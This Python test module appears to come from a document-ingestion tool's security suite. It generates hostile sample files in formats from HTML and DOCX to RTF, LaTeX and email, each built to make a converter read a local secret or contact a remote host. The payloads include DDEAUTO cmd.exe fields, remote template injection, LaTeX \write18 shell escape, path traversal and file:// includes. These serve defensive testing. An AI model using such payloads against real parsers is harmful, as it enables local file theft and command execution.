"""Files that refer to others, near and far, and such as have macros."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

from tests.ingest.attacks.files import (
    DOCUMENT_RELATIONS,
    OFFICE,
    SLIDE,
    SLIDE_RELATIONS,
    SVG,
    docx,
    drawn,
    epub,
    message,
    opendocument,
    pptx,
    relations,
    xlsx,
)
from tests.ingest.attacks.kit import NOWHERE, READ, SAYS, attack, replaced, secret_beside, unzipped


@attack("refers.html", outcome=READ)
def _(_path: Path) -> str:
    return f"""<html><head><base href="file:///"><link rel="stylesheet" href="file://{{secret}}">
    <style>@import "file://{{secret}}"; body {{ background: url({NOWHERE}/b.png) }}
    @font-face {{ font-family: x; src: url({NOWHERE}/f.woff) }}</style>
    <meta http-equiv="refresh" content="0;url={NOWHERE}"><script src="{NOWHERE}/s.js"></script></head>
    <body background="{NOWHERE}/c.png"><p style="background: url('file://{{secret}}')">{SAYS}</p>
    <iframe src="file://{{secret}}"></iframe><object data="file://{{secret}}"></object>
    <embed src="{NOWHERE}/e"><img src="file://{{secret}}"><img src="{{secret}}"><img src="{NOWHERE}/i.png">
    <img srcset="{NOWHERE}/i2.png 2x" src="//127.0.0.1:9/j.png"><video poster="{NOWHERE}/p.png"></video>
    <table background="{NOWHERE}/t.png"><tr><td>x</td></tr></table><input type="image" src="{NOWHERE}/n.png">
    <svg><image href="{NOWHERE}/v.png"/><use href="file://{{secret}}#a"/></svg></body></html>"""


@attack("refers.svg", outcome=READ)
def _(_path: Path) -> str:
    return f"""<?xml-stylesheet href="{NOWHERE}/s.css" type="text/css"?><svg {SVG} width="500" height="300">
    <style>@import url("{NOWHERE}/s.css");</style><script xlink:href="{NOWHERE}/s.js"/>
    <text x="9" y="50">{SAYS}</text><image xlink:href="file://{{secret}}" width="9" height="9"/>
    <image href="{NOWHERE}/i.png" width="9" height="9"/><use xlink:href="file://{{secret}}#a"/>
    <foreignObject><iframe src="file://{{secret}}"/></foreignObject></svg>"""


@attack("refers.epub", outcome=READ)
def _(path: Path) -> bytes:
    secret = secret_beside(path)
    return epub(
        f'<p>{{says}}</p><img src="file://{secret}"/><img src="../../../../../../..{secret}"/>'
        f'<img src="{NOWHERE}/i.png"/><object data="file://{secret}"/>'
        f'<link rel="stylesheet" href="{NOWHERE}/s.css"/><iframe src="file://{secret}"/>'
    )


@attack("refers.docx", outcome=READ)
def _(path: Path) -> bytes:
    secret = secret_beside(path)
    fields = (
        f"INCLUDETEXT &quot;{secret}&quot;",
        f"INCLUDEPICTURE &quot;{NOWHERE}/i.png&quot; \\d",
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;",
    )
    body = "".join(f'<w:p><w:fldSimple w:instr=" {field} "/></w:p>' for field in fields)
    targets = relations(
        ("r1", "aFChunk", f"file://{secret}"),
        ("r2", "image", f"{NOWHERE}/i.png"),
        ("r3", "image", f"file://{secret}"),
        ("r4", "attachedTemplate", f"{NOWHERE}/evil.dotm"),
        ("r5", "header", f"file://{secret}"),
        external=True,
    )
    body += '<w:altChunk r:id="r1"/>' + drawn('r:link="r2" r:embed="r3"')
    return docx("{says}" + body, parts={DOCUMENT_RELATIONS: targets})


@attack("refers.pptx", outcome=READ)
def _(path: Path) -> bytes:
    made = pptx()
    parts = unzipped(made)
    related = "".join(
        f'<Relationship Id="x{number}" Type="{OFFICE}/image" Target="{target}" TargetMode="External"/>'
        for number, target in enumerate((f"file://{secret_beside(path)}", f"{NOWHERE}/i.png"))
    )
    pictures = "".join(
        f'<p:pic><p:nvPicPr><p:cNvPr id="{number}" name="p"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill>'
        f'<a:blip r:{how}="x{number}" xmlns:r="{OFFICE}"/></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/>'
        '<a:ext cx="900000" cy="900000"/></a:xfrm></p:spPr></p:pic>'
        for number in (0, 1)
        for how in ("link", "embed")
    )
    return replaced(
        made,
        {
            SLIDE_RELATIONS: parts[SLIDE_RELATIONS].replace(b"</Rel", related.encode() + b"</Rel"),
            SLIDE: parts[SLIDE].replace(b"</p:spTree>", pictures.encode() + b"</p:spTree>"),
        },
    )


@attack("refers.odt", outcome=READ)
def _(path: Path) -> bytes:
    secret = secret_beside(path)
    return opendocument(
        "text",
        f'<text:p>{{says}}</text:p><text:section><text:section-source xlink:href="file://{secret}"/></text:section>'
        f'<text:p><draw:frame><draw:image xlink:href="{NOWHERE}/i.png"/></draw:frame>'
        f'<draw:frame><draw:image xlink:href="file://{secret}"/></draw:frame>'
        f'<draw:frame><draw:image xlink:href="../../../../../../..{secret}"/></draw:frame></text:p>',
    )


@attack("refers.rtf", outcome=READ)
def _(_path: Path) -> str:
    return (
        "{\\rtf1{\\*\\template " + NOWHERE + "/evil.dotm}" + SAYS + "\\par"
        '{\\field{\\*\\fldinst INCLUDETEXT "{secret}"}{\\fldrslt }}'
        '{\\field{\\*\\fldinst INCLUDEPICTURE "' + NOWHERE + '/i.png" \\\\d}{\\fldrslt }}'
        "{\\object\\objautlink{\\*\\objclass Package}{\\*\\objdata 0105}}"
        '{\\field{\\*\\fldinst DDEAUTO cmd "/k calc"}{\\fldrslt }}}'
    )


@attack("refers.md", outcome=READ)
def _(_path: Path) -> str:
    return (
        "---\ncss: {secret}\ninclude-before: {secret}\nbibliography: {secret}\ntemplate: {secret}\n---\n"
        f"{SAYS}\n\n![a]({{secret}}) ![b](file://{{secret}}) ![c]({NOWHERE}/i.png)\n\n"
        f"<img src='{{secret}}'><script src='{NOWHERE}/s.js'></script><iframe src='file://{{secret}}'></iframe>\n"
        "![](data:image/png;base64,iVBORw0KGgo=)\n"
    )


@attack("refers.tex", outcome=READ)
def _(_path: Path) -> str:
    return (
        "\\documentclass{article}\\usepackage{graphicx}\\begin{document}\n" + SAYS + "\n\n"
        "\\input{{secret}}\\include{{secret}}\\lstinputlisting{{secret}}\\verbatiminput{{secret}}"
        "\\includegraphics{{secret}}\\includegraphics{"
        + NOWHERE
        + "/i.png}\\immediate\\write18{touch escaped}\n"
        "\\newread\\f\\openin\\f={secret} \\read\\f to\\x \\x\n\\end{document}\n"
    )


@attack("refers.rst", outcome=READ)
def _(_path: Path) -> str:
    return (
        f"{SAYS}\n\n.. include:: {{secret}}\n\n.. literalinclude:: {{secret}}\n\n"
        ".. raw:: html\n   :file: {secret}\n\n"
        f".. csv-table::\n   :file: {{secret}}\n\n.. image:: {NOWHERE}/i.png\n\n.. figure:: {{secret}}\n"
    )


@attack("refers.org", outcome=READ)
def _(_path: Path) -> str:
    return (
        f'#+SETUPFILE: {{secret}}\n{SAYS}\n\n#+INCLUDE: "{{secret}}"\n\n'
        f"[[file:{{secret}}]] [[{NOWHERE}/i.png]]\n"
        "#+BEGIN_SRC sh :results output\ntouch escaped\n#+END_SRC\n"
    )


@attack("refers.adoc", outcome=READ)
def _(_path: Path) -> str:
    return f"{SAYS}\n\ninclude::{{secret}}[]\n\nimage::{NOWHERE}/i.png[]\n\nimage::{{secret}}[]\n"


@attack("refers.fb2", outcome=READ)
def _(_path: Path) -> str:
    return (
        '<?xml version="1.0"?><FictionBook xmlns="http://www.gribuser.ru/xml/fictionbook/2.0"'
        ' xmlns:l="http://www.w3.org/1999/xlink"><body><section>'
        f'<p>{SAYS}</p><image l:href="file://{{secret}}"/><image l:href="{NOWHERE}/i.png"/>'
        "</section></body></FictionBook>"
    )


@attack("refers.mhtml", outcome=READ)
def _(_path: Path) -> str:
    return (
        "From: <Saved by Blink>\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\n"
        f"Content-Type: text/html\nContent-Location: {NOWHERE}/\n\n<p>{SAYS}</p><img src='{NOWHERE}/i.png'>"
        "<img src='file://{secret}'>\n--x\n"
        "Content-Type: message/external-body; access-type=local-file; name={secret}\n\n"
        "Content-Type: text/plain\n\n--x--\n"
    )


@attack("refers.eml", outcome=READ)
def _(path: Path) -> bytes:
    secret = secret_beside(path)
    made = message(SAYS)
    made.add_alternative(
        f"<p>{SAYS}</p><img src='{NOWHERE}/pixel.gif'><img src='file://{secret}'><img src='cid:{secret}'>"
        f"<link rel=stylesheet href='{NOWHERE}/s.css'><iframe src='file://{secret}'></iframe>",
        subtype="html",
    )
    return made.as_bytes()


@attack("macros.docm", outcome=READ)
def _(_path: Path) -> bytes:
    return docx(parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 3000})


@attack("macros.xlsm", outcome=READ)
def _(_path: Path) -> bytes:
    content = io.BytesIO(xlsx())
    with zipfile.ZipFile(content, "a") as target:
        target.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 3000)
        target.writestr("xl/macrosheets/sheet1.xml", "<xm:macrosheet><sheetData/></xm:macrosheet>")
    return content.getvalue()
